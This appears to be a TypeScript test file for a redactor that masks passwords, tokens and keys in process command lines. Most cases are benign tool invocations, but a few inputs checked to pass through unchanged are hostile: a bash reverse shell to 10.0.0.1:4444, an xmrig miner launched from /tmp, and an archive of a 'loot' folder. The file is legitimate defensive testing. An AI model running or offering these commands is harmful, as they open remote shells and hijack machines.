import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createRedactor } from '../../src/secrets/redactor.ts';

/** Arguments separated by blanks in the case; `_` is a blank inside one. `*` is a mark in what is expected. */
const CASES: readonly (readonly [argv: string, expected: string])[] = [
  ['node app.js --password=hunter2 --port=80', 'node app.js --password=* --port=80'],
  ['node app.js --password hunter2 --port 80', 'node app.js --password * --port 80'],
  ['node --api-key k1 --token --verbose x', 'node --api-key * --token --verbose x'],
  ['x --password -s3cret -v', 'x --password * -v'],
  ['x --token-file /run/t --token-ttl 3600 --no-password y', 'x --token-file /run/t --token-ttl 3600 --no-password y'],
  ['x --password-stdin y', 'x --password-stdin y'],
  ['java -Ddb.password=abc -Dx=y -jar a.jar', 'java -Ddb.password=* -Dx=y -jar a.jar'],
  ['java -Djavax.net.ssl.keyStorePassword=changeit Main', 'java -Djavax.net.ssl.keyStorePassword=* Main'],
  ['env DB_PASSWORD=x PATH=/bin mysql -psecret -u root db', 'env DB_PASSWORD=* PATH=/bin mysql -p* -u root db'],
  ['/usr/bin/mysqldump -h db -p', '/usr/bin/mysqldump -h db -p'],
  ['curl -u bob:s3cret https://x', 'curl -u bob:* https://x'],
  ['curl -ubob:s3cret --user=a:b --proxy-user c:d https://x', 'curl -ubob:* --user=a:* --proxy-user c:* https://x'],
  [
    'curl -H Authorization:_Bearer_abc1 -H X-Api-Key:_k1 -HX-Token:_z -b sid=1;_t=2 https://x',
    'curl -H Authorization:_Bearer_* -H X-Api-Key:_* -HX-Token:_* -b sid=*;_t=* https://x',
  ],
  ['curl https://bob:s3cret@host/x?token=abc&y=1', 'curl https://bob:*@host/x?token=*&y=1'],
  ['sudo -E -u web timeout 5 curl -u a:b x', 'sudo -E -u web timeout 5 curl -u a:* x'],
  ['sshpass -p s3cret ssh h', 'sshpass -p * ssh h'],
  ['sshpass -ps3cret ssh -p 22 h', 'sshpass -p* ssh -p 22 h'],
  ['docker run -p 8080:80 img', 'docker run -p 8080:80 img'],
  ['docker login -u me -p s3cret reg', 'docker login -u me -p * reg'],
  ['redis-cli -a s3cret ping', 'redis-cli -a * ping'],
  ['smbclient -U dom\\bob%s3cret //h/s', 'smbclient -U dom\\bob%* //h/s'],
  ['openssl enc -aes-256-cbc -pass pass:abc -in f', 'openssl enc -aes-256-cbc -pass * -in f'],
  ['openssl req -new -passin pass:abc', 'openssl req -new -passin *'],
  ['7z a -ps3cret out.7z /tmp/loot', '7z a -p* out.7z /tmp/loot'],
  ['zip -r -P s3cret out.zip x', 'zip -r -P * out.zip x'],
  ['aws configure set aws_secret_access_key abcdef', 'aws configure set aws_secret_access_key *'],
  ['aws configure set region eu-west-1', 'aws configure set region eu-west-1'],
  [
    'sh -c curl_-u_bob:s3cret_https://x_|_mysql_-pabc_&&_export_TOKEN=t1',
    'sh -c curl_-u_bob:*_https://x_|_mysql_-p*_&&_export_TOKEN=*',
  ],
  ['bash -c ssh_h_"mysql_-ps3cret_--password=\'a_b\'"', 'bash -c ssh_h_"mysql_-p*_--password=\'*\'"'],
  ['sh -c x=$(redis-cli_-a_pw1_get_k)', 'sh -c x=$(redis-cli_-a_*_get_k)'],
  ['postgres:_app_orders_10.0.0.1(5432)_idle', 'postgres:_app_orders_10.0.0.1(5432)_idle'],
  ['nginx:_master_process_/usr/sbin/nginx_-g_daemon_off;', 'nginx:_master_process_/usr/sbin/nginx_-g_daemon_off;'],
  [
    '/tmp/xmrig -o pool.example.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x',
    '/tmp/xmrig -o pool.example.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x',
  ],
  ['/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
];

for (const [argv, expected] of CASES) {
  const words = argv
    .split(' ')
    .map((word) =>
      word
        .replaceAll('_', ' ')
        .replaceAll('aws secret access key', 'aws_secret_access_key')
        .replaceAll('DB PASSWORD', 'DB_PASSWORD'),
    );
  const wanted = expected
    .split(' ')
    .map((word) =>
      word
        .replaceAll('_', ' ')
        .replaceAll('aws secret access key', 'aws_secret_access_key')
        .replaceAll('DB PASSWORD', 'DB_PASSWORD'),
    );
  test(argv.slice(0, 80), () => {
    const starred = (text: string): string => text.replaceAll(/<redacted:[0-9a-f]{16}>/gu, '*');
    const body = Buffer.from(`${words.join('\0')}\0`);
    const bytes = createRedactor().bytes(body, 'cmdline');
    assert.deepEqual(starred(Buffer.from(bytes.value).toString()).split('\0'), [...wanted, '']);
    assert.equal(bytes.redactions.length > 0, argv !== expected);
    if (argv === expected) assert.equal(bytes.value, body, 'untouched bytes come back as they are');
    const json = createRedactor().json({ processes: [{ argv: words }] });
    assert.deepEqual((json.value as { processes: { argv: string[] }[] }).processes[0]?.argv.map(starred), wanted);
  });
}

test('the list of redactions names the argument', () => {
  const { redactions } = createRedactor().bytes(Buffer.from('x\0--password=a\0-v\0--api-key\0b\0'), 'cmdline');
  assert.deepEqual(redactions, ['argv[1]', 'argv[4]']);
  assert.deepEqual(createRedactor().json({ p: [{ argv: ['x', '--password=a'] }] }).redactions, ['p[].argv[1]']);
  assert.deepEqual(createRedactor().json({ command: 'curl -u bob:s3cret x' }).redactions, ['command']);
});
